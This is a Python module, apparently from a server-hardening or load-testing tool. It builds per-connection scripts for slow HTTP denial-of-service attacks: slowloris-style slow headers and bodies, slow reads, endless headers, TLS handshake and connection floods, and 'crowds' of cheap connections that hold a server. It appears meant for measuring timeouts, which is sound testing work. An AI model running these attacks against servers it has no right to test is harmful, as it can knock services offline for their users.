"""What one connection of an attack does, and what was seen of it; and what each attack sends: its scripts.

Roles of a connection, which `kinds` compares:

stalled    says its part and then nothing: it ends at the deadline, of whichever kind
dripped    goes on at a given rate, in pieces about every tenth of a second: an idle timeout never ends it, an absolute
           deadline ends it like the stalled one, a minimum rate later the faster it is. All rates are tried at once, in
           steps of two or three, in place of one after another
closer     the same, in a second round, at rates between two of these: where a minimum rate is known to lie only there
fed        does all that is asked: an idle timeout never ends it, an absolute one does
primed     has sent a good part before it drips: it outlives a deadline that holds for the first bytes only
poked      reads nothing and sends a byte every few milliseconds, so that a FIN is seen (probe.py)
once       the same with one byte only, each at a time of its own: it tells if it is the bytes that put off the end, or
           that cause it, because the server takes them for a slow head
flood      sends as fast as it may: it finds limits of size, not of time
"""

from __future__ import annotations

import math
import ssl
from collections.abc import Iterable, Iterator, Sequence
from dataclasses import dataclass, replace
from typing import Literal

from ..target import Target, unverified, upgrade

# seconds between two pieces; an idle timeout must be longer than that to be told from an absolute deadline
DRIP = 0.1
# the same between two requests, and between two lines of an endless head: a hundred lines, which is a usual limit, must
# take longer than ten seconds, which is a usual deadline
REQUEST = 0.15
# the same for what reads nothing: the precision of what it sees
POKE = 0.005
# the same for what reads slowly
GULP = 0.02
# bytes per second; the usual minimum rates are 100 to 500
RATES = (10.0, 30.0, 100.0, 200.0, 300.0, 500.0, 1000.0, 3000.0)
READ_RATES = (100.0, 500.0, 2000.0, 8000.0, 32000.0)
# rates that are tried between two, where a minimum rate lies, and the ratio of two that are close enough
CLOSER, CLOSE = 8, 1.25
# connections that measure one deadline, and those that go on beside them
STALLED = 4
DRIPPED = 2
# bytes of a head that no server may refuse for its size
HEAD = 6000
# bytes of responses that fill the kernel's and a server's own buffers when nobody reads
FILLING = 200_000
# bytes of requests that a server's kernel takes while the server reads none
PIPELINE = 96_000
# the same for one that reads slowly: bytes, and requests
_LONG_PIPELINE = 1_000_000
REQUESTS = 5_000

# requests that a crowd which reads nothing makes in all: it holds on to a server, and must not keep it busy
CROWD_REQUESTS = 20_000

# when those that send one byte do: parts of the limit, each this part of the one before, and seconds at least
_ONCE_LAST, _ONCE_NEXT, _ONCE_LEAST = 0.96, 0.8, 0.5
# bytes of a body that are sent before it drips: more than a usual buffer
PRIMED = 40_000

_LINE = b"X-Endless: 1\r\n"
# Bytes of a body that never comes whole: below the limits of servers (nginx's is 1 MiB), which would refuse it at once,
# and more than the fastest of RATES sends in five minutes
_BODY = 1_000_000


Close = Literal["fin", "rst", "response", "none"]

# the trouble of a connection that a server has ended which then listened no more: its end tells of no deadline
DOWN = "the server was down: it ended connections, and refused new ones"


@dataclass(frozen=True)
class Script:
    """The behaviour of one connection.

    `attack` and `role` name it. `opening` is sent first; then `answers` responses are awaited. From there `piece` is
    sent every `interval` seconds, up to `cap` bytes in all. `gulp`: bytes read per interval; None reads everything at
    once, 0 nothing. `shake`: do the TLS handshake, if the target has TLS. `since`: the moment that seconds are counted
    from. `rate`: bytes per second of pieces or gulps. `half_close`: end the own side after those responses. `pongs`:
    answer a websocket's pings.
    """

    attack: str
    role: str
    opening: bytes = b""
    answers: int = 0
    piece: bytes = b""
    interval: float = float("inf")
    cap: int = 1 << 20
    gulp: int | None = None
    shake: bool = True
    since: Literal["connect", "attack"] = "attack"
    rate: float = 0.0
    half_close: bool = False
    pongs: bool = False


@dataclass(frozen=True)
class Seen:
    """The end of one connection, or that there was none.

    `seconds`: from the script's moment to the end; None if it was still open after `watched` seconds. `full`: seconds
    until the script's `cap` stopped it. `went`: bytes of pieces sent, or read by gulps. `error`: the largest error of
    these times. `trouble`: why the script could not be carried out, "" if it was.
    """

    attack: str
    role: str
    rate: float
    seconds: float | None
    watched: float
    full: float | None = None
    close: Close = "none"
    status: int | None = None
    error: float = 0.0
    sent: int = 0
    went: int = 0
    trouble: str = ""


@dataclass(frozen=True)
class Facts:
    """What is known of a target before it is attacked. `size`: bytes of its usual response. `most`: the requests
    that it answers on one connection. `rates`: bytes per second to go on with; none for the usual ones."""

    target: Target
    size: int
    websocket: bool
    limit: float
    most: int = REQUESTS
    rates: tuple[float, ...] = ()


# the attacks whose connections are also compared with those of another
NEEDS = {
    "silent": {"slow-header"},
    "endless-header": {"slow-header"},
    "pipelined": {"slow-header"},
    "stalled-body": {"slow-body"},
}


def scripts(facts: Facts, names: frozenset[str]) -> list[Script]:
    """Return the scripts of all connections that the attacks of these names need."""
    groups = names.union(*(NEEDS.get(name, set()) for name in names))
    makers = {
        "silent": _silent,
        "slow-header": _slow_header,
        "endless-header": _endless_header,
        "slow-body": _slow_body,
        "slow-read": _slow_read,
        "idle": _idle,
        "half-close": _half_close,
        "pipelined": _pipelined,
        "tls-silent": _tls_silent,
        "websocket-silent": _websocket_silent,
    }
    return [script for name, make in makers.items() if name in groups for script in make(facts)]


def closer(facts: Facts, name: str, bounds: tuple[float, float]) -> list[Script]:
    """Return connections of an attack that go on at rates between two, as far apart from each other by their ratios."""
    found = scripts(replace(facts, rates=between(*bounds)), frozenset({name}))
    return [replace(one, role="closer") for one in found if one.role == "dripped"]


def between(low: float, high: float) -> tuple[float, ...]:
    """Return the rates to try between two, and none below a byte per second."""
    low = max(low, 1.0)
    return tuple(low * (high / low) ** (step / (CLOSER + 1)) for step in range(1, CLOSER + 1))


def _silent(facts: Facts) -> Iterator[Script]:
    """Say nothing, with TLS not even in the handshake. There the dripped connection sends an unfinished record."""
    start = Script("silent", "stalled", shake=False, since="connect")
    yield from [start] * STALLED
    if facts.target.tls:
        record = b"\x16\x03\x01\x02\x00\x01\x00\x01\xfc\x03\x03"  # a ClientHello of 512 bytes begins
        drip = replace(start, role="dripped", opening=record, piece=b"\0", interval=REQUEST, rate=1 / REQUEST)
        yield from [replace(drip, cap=500)] * DRIPPED


def _slow_header(facts: Facts) -> Iterable[Script]:
    start = Script("slow-header", "stalled", _partial_head(facts.target), since="connect")
    return _stalled_and_dripped(start, HEAD, facts.rates or RATES)


def _stalled_and_dripped(start: Script, cap: int, rates: Sequence[float]) -> Iterator[Script]:
    """Return the stalled connections, and one or two for each rate that does not send `cap` bytes in a second."""
    yield from [start] * STALLED
    for number, rate in enumerate(rates):
        if rate <= cap:
            yield from [_dripping(start, cap, rate)] * (1 if number else DRIPPED)


def _dripping(start: Script, cap: int, rate: float = 1 / DRIP) -> Script:
    """Return one that goes on at a rate, in whole bytes: a byte for each piece, if no other is given."""
    size = max(1, round(rate * DRIP))
    return replace(start, role="dripped", piece=b"a" * size, interval=size / rate, rate=rate, cap=cap)


def _partial_head(target: Target) -> bytes:
    return target.head("GET") + b"X-Slow: "


def _endless_header(facts: Facts) -> Iterator[Script]:
    start = Script("endless-header", "dripped", opening=facts.target.head("GET"), since="connect", piece=_LINE)
    rate = len(_LINE) / REQUEST
    yield from [replace(start, interval=REQUEST, rate=rate)] * STALLED
    long = b"X-Endless: " + b"a" * 1000 + b"\r\n"
    yield replace(start, role="flood", piece=long, interval=0.002, rate=len(long) / 0.002)


def _slow_body(facts: Facts) -> Iterator[Script]:
    kind = "Content-Type: application/octet-stream"
    opening = facts.target.head("POST", kind, f"Content-Length: {_BODY}") + b"\r\n"
    start = Script("slow-body", "stalled", opening=opening)
    yield from _stalled_and_dripped(start, len(opening) + _BODY - 1, facts.rates or RATES)
    drip = _dripping(replace(start, opening=opening + b"a" * PRIMED), len(opening) + _BODY - 1)
    yield replace(drip, role="primed")


def _short(target: Target) -> bytes:
    """Return a head that is as short as it may be, without the blank line that ends it."""
    return f"GET {target.path} HTTP/1.1\r\nHost: {target.authority}\r\n".encode("latin-1")


def _slow_read(facts: Facts) -> Iterator[Script]:
    """Ask for more than buffers hold, and read nothing, or slowly: for no more than the server answers, because it ends
    the connection then."""
    short = _short(facts.target)
    request = filler(facts)
    number = min(math.ceil(FILLING / facts.size) + 1, PIPELINE // len(request) + 1, facts.most)
    start = Script("slow-read", "stalled", opening=request * number, gulp=0, interval=POKE)
    yield start
    poke = replace(start, role="poked", opening=start.opening + short + b"X-Slow: ", piece=b"a", cap=2 * _LONG_PIPELINE)
    yield from [poke] * 3
    moment = _ONCE_LAST * facts.limit
    while moment >= _ONCE_LEAST:
        yield replace(start, role="once", interval=moment, piece=b"G", cap=len(start.opening) + 1, rate=1 / moment)
        moment *= _ONCE_NEXT
    for rate in facts.rates or READ_RATES:
        number = math.ceil((FILLING + rate * facts.limit * 1.1) / facts.size)
        if number <= facts.most and number * len(request) <= _LONG_PIPELINE:
            size = max(1, round(rate * GULP))
            gulp = replace(poke, role="dripped", opening=request * number + short + b"X-Slow: ", interval=size / rate)
            yield replace(gulp, gulp=size, rate=rate)


def filler(facts: Facts) -> bytes:
    """Return the request whose responses fill a server's buffers."""
    return _short(facts.target) + b"\r\n"


def longest(facts: Facts) -> int:
    """Return the most requests that one connection of an attack may make."""
    most = math.ceil((FILLING + max(READ_RATES) * facts.limit * 1.1) / facts.size)
    return min(most + 1, _LONG_PIPELINE // len(filler(facts)) + 1, REQUESTS)


def fills(facts: Facts) -> bool:
    """Tell if enough can be asked for on one connection to fill a server's buffers."""
    return min(PIPELINE // len(filler(facts)), facts.most) * facts.size >= FILLING


def _idle(facts: Facts) -> Iterable[Script]:
    get = facts.target.get()
    start = Script("idle", "stalled", opening=get, answers=1)
    return *[start] * STALLED, replace(start, role="fed", piece=get, interval=REQUEST, rate=len(get) / REQUEST)


def _half_close(facts: Facts) -> Iterable[Script]:
    return [Script("half-close", "stalled", opening=_partial_head(facts.target), half_close=True)] * 2


def _pipelined(facts: Facts) -> Iterable[Script]:
    """Send a whole request and the beginning of a next one at once; stall, or drip, in the second."""
    opening = facts.target.get() + _partial_head(facts.target)
    start = Script("pipelined", "stalled", opening=opening, answers=1)
    return *[start] * 3, _dripping(start, HEAD)


def _tls_silent(facts: Facts) -> Iterable[Script]:
    start = Script("tls-silent", "stalled", since="connect")
    return *[start] * 3, _dripping(replace(start, opening=_partial_head(facts.target)), HEAD)


def _websocket_silent(facts: Facts) -> Iterable[Script]:
    start = Script("websocket-silent", "stalled", opening=upgrade(facts.target), answers=1)
    return *[start] * 3, replace(start, role="fed", pongs=True)


def crowd(facts: Facts, name: str) -> Script:
    """Return the script of one of many connections of an attack, which hold on to a server and cost the client little.

    They drip once a second, or acknowledge ten times a second what they do not read; nobody pokes.
    """
    if name == "stalled-body":
        return next(iter(_slow_body(facts)))
    if name in ("connection-flood", "handshake-flood"):
        opening = client_hello(facts.target) if name == "handshake-flood" else b""
        return Script(name, "flood", opening=opening, shake=False, since="connect")
    wanted = {"slow-header": "dripped", "slow-body": "dripped"}.get(name)
    found = [one for one in scripts(facts, frozenset({name})) if one.attack == name and wanted in (None, one.role)]
    slow = found[0]
    return replace(slow, interval=1.0 if slow.gulp is None else DRIP)


def crowd_size(facts: Facts, name: str, connections: int) -> int:
    """Return how many connections of an attack make a crowd: fewer, where each asks a server to work for it."""
    if name != "slow-read":
        return connections
    requests = math.ceil(FILLING / facts.size) + 1
    return max(1, min(connections, CROWD_REQUESTS // requests))


def client_hello(target: Target) -> bytes:
    """Return the first message of a TLS handshake, which costs a server a signature to answer."""
    context = target.context() or unverified()
    incoming, outgoing = ssl.MemoryBIO(), ssl.MemoryBIO()
    half = context.wrap_bio(incoming, outgoing, server_hostname=target.host)
    try:
        half.do_handshake()
    except ssl.SSLWantReadError:
        return outgoing.read()
    raise AssertionError("a handshake needs an answer")
